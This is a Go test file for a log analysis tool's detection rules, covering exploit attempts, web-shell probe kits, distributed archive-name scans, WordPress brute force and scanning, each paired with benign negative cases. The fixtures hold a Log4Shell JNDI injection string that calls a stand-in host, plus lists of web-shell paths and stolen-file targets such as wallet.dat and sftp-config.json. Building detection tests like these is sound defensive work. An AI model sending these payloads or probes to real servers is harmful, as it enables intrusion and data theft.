package analyze

import (
	"fmt"
	"slices"
	"strconv"
	"time"
)

// Cases of the exploit, probe and campaign rules (issue 16), added to
// ruleCases so that TestRules and TestRulesQuietOnBenignTraffic run them.
func init() {
	ruleCases["exploit-attempt"] = []ruleCase{
		{"one log4shell attempt in the referrer", func(site string, at time.Time) []row {
			return burst(1, at, time.Second, with(client(attacker, site, firefox), func(i int, r *row) {
				r.target, r.status, r.ref = "/", 200, "${${lower:j}ndi:ldap://203.0.113.7/a}"
			}))
		}, one(attacker)},
		{"one open-proxy CONNECT", func(site string, at time.Time) []row {
			return burst(1, at, time.Second, with(client(attacker, site, ""), func(i int, r *row) {
				r.method, r.target, r.status = "CONNECT", "example.org:443", 400
			}))
		}, one(attacker)},
		{"negative: placeholders, searches for exploit names and a java doc page", func(site string, at time.Time) []row {
			paths := []string{"/users/${id}/profile", "/search?q=log4shell+jndi+explained", "/search?q=curl+wget", "/docs/java.lang.Runtime.html", "/blog/shellshock-() explained"}
			return burst(len(paths), at, time.Second, with(client(attacker, site, firefox), func(i int, r *row) { r.target, r.status = paths[i], 200 }))
		}, nil},
	}
	ruleCases["probe-kit"] = []ruleCase{
		{"upload-shell kit, all 404", func(site string, at time.Time) []row {
			paths := []string{"/uploads/up.php", "/images/vuln.php", "/ups.php", "/up.php", "/wp-content/upload.php", "/upload.php", "/media-admin.php"}
			return burst(len(paths), at, time.Second, with(client(attacker, site, firefox), func(i int, r *row) { r.target = paths[i] }))
		}, one(attacker)},
		{"web shells answered 418 and 405", func(site string, at time.Time) []row {
			paths := []string{"/wso.php", "/alfa.php", "/shell.php", "/c99.php"}
			return burst(len(paths), at, time.Second, with(client(attacker, site, firefox), func(i int, r *row) {
				r.method, r.target, r.status = "POST", paths[i], []uint16{418, 405}[i%2]
			}))
		}, one(attacker)},
		{"negative: redirects of two probes, a crawler on stale archive links, a download", func(site string, at time.Time) []row {
			out := burst(4, at, time.Second, with(client(attacker, site, firefox), func(i int, r *row) {
				r.target, r.status = []string{"/backup.zip", "/backup.zip", "/up.php", "/up.php"}[i], []uint16{301, 404}[i%2]
			}))
			out = append(out, burst(6, at, time.Second, with(client(attacker+1, site, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"), func(i int, r *row) {
				r.target = fmt.Sprintf("/release-%d.zip", i)
			}))...)
			return append(out, burst(3, at, time.Second, with(client(attacker+2, site, firefox), func(i int, r *row) {
				r.target, r.status = "/vakt-1.2.zip", 200
			}))...)
		}, nil},
	}
	ruleCases["probe-campaign"] = []ruleCase{
		{"forty clients in ten networks, no user agent, archive names", func(site string, at time.Time) []row {
			return campaignRows(site, at, 40, 10, 5, "")
		}, []string{"user_agent=(none)"}},
		{"negative: thirty visitors of one browser following a dead archive link", func(site string, at time.Time) []row {
			var out []row
			for c := range 30 {
				out = append(out, burst(6, at.Add(time.Duration(c)*time.Minute), 5*time.Second, func(i int) row {
					r := row{site: site, client: uint64(attacker + c), net: uint64(5000 + c%10), method: "GET", ua: firefox,
						target: benignPages[(i+c)%len(benignPages)], status: 200}
					if i == 2 {
						r.target, r.status = "/annual-report.zip", 404
					}
					return r
				})...)
			}
			return out
		}, nil},
	}
	ruleCases["probe-campaign-member"] = []ruleCase{
		{"every member of a campaign", func(site string, at time.Time) []row {
			return campaignRows(site, at, 25, 6, 5, "")
		}, memberIDs(25)},
		{"negative: ten probers of one agent in two networks, two probes each at most", func(site string, at time.Time) []row {
			return campaignRows(site, at, 10, 2, 2, "")
		}, nil},
	}
	ruleCases["login-brute-force"] = append(ruleCases["login-brute-force"],
		ruleCase{"wordpress and xml-rpc guessing answered 200", func(site string, at time.Time) []row {
			return burst(24, at, 3*time.Second, with(client(attacker, site, firefox), func(i int, r *row) {
				r.method, r.target, r.status = "POST", []string{"/wp-login.php", "/xmlrpc.php"}[i%2], 200
			}))
		}, one(attacker)},
		ruleCase{"negative: the WordPress app and a user logging in", func(site string, at time.Time) []row {
			out := burst(30, at, 20*time.Second, with(client(attacker, site, "wp-android/24.1 (Android 14)"), func(i int, r *row) {
				r.method, r.target, r.status = "POST", "/xmlrpc.php", 200
			}))
			return append(out, burst(3, at, 10*time.Second, with(client(attacker+1, site, firefox), func(i int, r *row) {
				r.method, r.target, r.status = "POST", "/wp-login.php", []uint16{200, 200, 302}[i]
			}))...)
		}, nil},
	)
	ruleCases["scanning"] = append(ruleCases["scanning"],
		ruleCase{"word list answered 400, 405, 418 and 503", func(site string, at time.Time) []row {
			return burst(20, at, time.Second, with(client(attacker, site, firefox), func(i int, r *row) {
				r.target, r.status = "/probe-"+strconv.Itoa(i), []uint16{400, 405, 418, 503}[i%4]
			}))
		}, one(attacker)},
		ruleCase{"negative: a dumb-http git clone with absent objects", func(site string, at time.Time) []row {
			return burst(30, at, 100*time.Millisecond, with(client(attacker, site, "git/2.43.0"), func(i int, r *row) {
				r.target = fmt.Sprintf("/vakt.git/objects/%02x/%038x", i, i)
			}))
		}, nil},
	)
}

// campaignRows is a distributed archive-name scan: clients in networks,
// 1 to perClient probes each under one user agent, some through an http-to-https
// redirect (a 301, then the 404).
func campaignRows(site string, at time.Time, clients, networks, perClient int, ua string) []row {
	names := []string{"/restore/www.zip", "/www.zip", "/backup.tar.gz", "/" + site + ".rar", "/" + site + ".tar.gz", "/wallet.dat", "/sftp-config.json", "/site.zip"}
	var out []row
	for c := range clients {
		id := uint64(attacker + c)
		n := 1 + c%perClient
		out = append(out, burst(n, at.Add(time.Duration(c)*17*time.Second), 2*time.Second, func(i int) row {
			return row{site: site, client: id, net: uint64(6000 + c%networks), asn: uint32(64600 + c%3), method: "HEAD",
				target: names[(c+i)%len(names)], status: 404, ua: ua}
		})...)
		if c%4 == 0 {
			out = append(out, row{ts: at.Add(time.Duration(c) * 17 * time.Second).Add(-time.Second), site: site, client: id,
				net: uint64(6000 + c%networks), method: "HEAD", target: names[c%len(names)], status: 301, ua: ua})
		}
	}
	return out
}

func memberIDs(n int) []string {
	var ids []string
	for c := range n {
		ids = append(ids, strconv.FormatUint(uint64(attacker+c), 10))
	}
	slices.Sort(ids)
	return ids
}
